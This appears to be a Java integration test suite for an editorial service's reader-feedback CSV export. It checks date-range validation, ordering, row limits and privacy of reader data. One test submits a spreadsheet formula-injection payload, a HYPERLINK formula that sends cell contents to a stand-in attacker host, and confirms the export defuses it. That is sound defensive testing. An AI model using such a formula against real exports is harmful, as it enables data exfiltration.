package org.erratum.feedback.readout;

import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.stream.IntStream;

import org.erratum.events.ReportSubmitted.Category;
import org.erratum.events.VoteCast.NotHelpfulReason;
import org.erratum.feedback.TestArticles;
import org.erratum.feedback.article.KnownArticle;
import org.erratum.feedback.report.Report;
import org.erratum.feedback.vote.Vote;
import org.erratum.testsupport.IntegrationTest;
import org.erratum.testsupport.TestClient;
import org.erratum.testsupport.TestClient.Response;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.data.mongodb.core.MongoTemplate;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.data.mongodb.core.query.Criteria.where;
import static org.springframework.data.mongodb.core.query.Query.query;

/**
 * The CSV export. Feedback of past days is stored directly with its time of acceptance (the service's clock is the
 * real one), in years no other test writes to, so those exports can be compared whole; today's feedback comes
 * through the reader API.
 */
@IntegrationTest
class FeedbackExportIntegrationTests {

    private static final String HEADER = "type,acceptedAt,articleId,revision,helpful,reason,category,passage,comment,"
            + "spam\r\n";

    @LocalServerPort
    int port;

    @Autowired
    MongoTemplate mongo;

    private TestClient editor;

    @BeforeEach
    void editor() {
        editor = TestClient.onPort(port).as("editor", "editor-dev-password");
    }

    @Test
    void exportHoldsTheVotesAndReportsOfBothEndDaysInOrderOfAcceptance() {
        String a = TestArticles.newArticleId();
        storeVote(a, "2011-02-27T23:59:59.999Z", true, null, false);
        storeVote(a, "2011-02-28T00:00:00Z", true, null, false);
        storeReport(a, "2011-02-28T12:00:00Z", Category.INACCURATE, "every 4 to 6 hours", "Leaflet says 4, not 6.",
                false);
        storeVote(a, "2011-02-28T13:00:00Z", false, NotHelpfulReason.CONFUSING, true);
        storeReport(a, "2011-03-01T23:59:59.999Z", Category.OTHER, null, "The table, I think, is wrong.", false);
        storeReport(a, "2011-03-02T00:00:00Z", Category.OTHER, null, "A day too late for this export.", false);

        Response response = editor.getText("/api/editorial/feedback.csv?from=2011-02-28&to=2011-03-01");

        assertThat(response.status()).as(response.toString()).isEqualTo(200);
        assertThat(response.header("Content-Type")).isEqualTo("text/csv;charset=UTF-8");
        assertThat(response.header("Content-Disposition"))
                .startsWith("attachment; filename=\"erratum-feedback-2011-02-28-to-2011-03-01.csv\"");
        assertThat(response.body()).isEqualTo(HEADER
                + "vote,2011-02-28T00:00:00Z," + a + ",1,true,,,,,false\r\n"
                + "report,2011-02-28T12:00:00Z," + a + ",1,,,INACCURATE,every 4 to 6 hours,\"Leaflet says 4, not 6.\","
                + "false\r\n"
                + "vote,2011-02-28T13:00:00Z," + a + ",1,false,CONFUSING,,,,true\r\n"
                + "report,2011-03-01T23:59:59.999Z," + a + ",1,,,OTHER,,\"The table, I think, is wrong.\",false\r\n");
    }

    @Test
    void readerTextIsQuotedAndCannotRunAsAFormulaAndNoReaderIsIdentified() {
        String articleId = TestArticles.newArticleId();
        KnownArticle article = TestArticles.publishAndAwait(
                TestArticles.article(articleId, "slug-" + articleId, 1, 1), mongo);
        TestClient readers = TestClient.onPort(port);
        assertThat(readers.post("/api/feedback/votes", Map.of("articleId", articleId, "revision", 1,
                "helpful", false, "reason", "INACCURATE")).status()).isEqualTo(202);
        assertThat(readers.post("/api/feedback/reports", Map.of("articleId", articleId, "revision", 1,
                "category", "INACCURATE",
                "passage", "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Source\")",
                "comment", "-2+3 is what the \"per day\" column adds up to, surely\nnot what was meant",
                "contactEmail", "reader@example.com", "contactConsent", true)).status()).isEqualTo(202);
        LocalDate today = LocalDate.now(ZoneOffset.UTC);

        Response response = editor.getText("/api/editorial/feedback.csv?from=" + today.minusDays(1)
                + "&to=" + today.plusDays(1));

        assertThat(response.status()).as(response.toString()).isEqualTo(200);
        String csv = response.body();
        assertThat(csv).startsWith(HEADER)
                .contains(",INACCURATE,\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Source\"\")\","
                        + "\"'-2+3 is what the \"\"per day\"\" column adds up to, surely\nnot what was meant\",false\r\n")
                .doesNotContain("reader@example.com");
        assertThat(mongo.find(query(where("articleId").is(article.articleId())), Vote.class))
                .extracting(Vote::readerKey).singleElement()
                .satisfies(readerKey -> assertThat(csv).doesNotContain(readerKey));
    }

    @Test
    void aRangeHoldingMoreThanTheMaximumIsRefusedRatherThanCutShort() {
        String articleId = TestArticles.newArticleId();
        String path = "/api/editorial/feedback.csv?from=2012-06-01&to=2012-06-01";
        try {
            mongo.insert(IntStream.range(0, 1000).mapToObj(i -> vote(articleId, "2012-06-01T10:00:00Z", true,
                    null, false)).toList(), Vote.class);
            Response atTheMaximum = editor.getText(path);
            assertThat(atTheMaximum.status()).as(atTheMaximum.toString()).isEqualTo(200);
            assertThat(atTheMaximum.body().split("\r\n")).hasSize(1 + 1000);

            storeReport(articleId, "2012-06-01T11:00:00Z", Category.OTHER, null, "One more than may be exported.",
                    false);
            Response overTheMaximum = editor.getText(path);

            assertThat(overTheMaximum.status()).as(overTheMaximum.toString()).isEqualTo(400);
            assertThat(overTheMaximum.header("Content-Type")).startsWith("application/problem+json");
            assertThat(overTheMaximum.json().get("errors").get(0).get("field").asString()).isEqualTo("to");
            assertThat(overTheMaximum.json().get("detail").asString()).contains("1001", "1000");
        } finally {
            mongo.remove(query(where("articleId").is(articleId)), Vote.class);
            mongo.remove(query(where("articleId").is(articleId)), Report.class);
        }
    }

    @ParameterizedTest(name = "{0} -> {1}")
    @CsvSource(delimiter = '|', textBlock = """
            to=2024-01-31                    | from
            from=2024-01-01                  | to
            from=2024-1-1&to=2024-01-31      | from
            from=yesterday&to=2024-01-31     | from
            from=2024-01-01&to=2024-02-30    | to
            from=2024-02-01&to=2024-01-31    | to
            from=2023-01-01&to=2024-01-02    | to
            """)
    void badDatesAreAProblemNamingTheParameter(String query, String parameter) {
        Response response = editor.getText("/api/editorial/feedback.csv?" + query);

        assertThat(response.status()).as(response.toString()).isEqualTo(400);
        assertThat(response.header("Content-Type")).startsWith("application/problem+json");
        assertThat(response.json().get("errors").get(0).get("field").asString()).isEqualTo(parameter);
    }

    @Test
    void aRangeOf366DaysIsAllowed() {
        assertThat(editor.getText("/api/editorial/feedback.csv?from=2013-01-01&to=2014-01-01").status())
                .isEqualTo(200);
    }

    private void storeVote(String articleId, String acceptedAt, boolean helpful, NotHelpfulReason reason,
            boolean spam) {
        mongo.insert(vote(articleId, acceptedAt, helpful, reason, spam));
    }

    private static Vote vote(String articleId, String acceptedAt, boolean helpful, NotHelpfulReason reason,
            boolean spam) {
        String id = UUID.randomUUID().toString();
        return new Vote(id, articleId, 1, "reader-key-" + id, helpful, reason, id, Instant.parse(acceptedAt), spam,
                spam ? List.of("honeypot field filled in") : List.of(), true);
    }

    private void storeReport(String articleId, String acceptedAt, Category category, String passage,
            String comment, boolean spam) {
        String id = UUID.randomUUID().toString();
        mongo.insert(new Report(id, articleId, 1, category, passage, comment, false, id, Instant.parse(acceptedAt),
                spam, spam ? List.of("honeypot field filled in") : List.of(), true));
    }
}
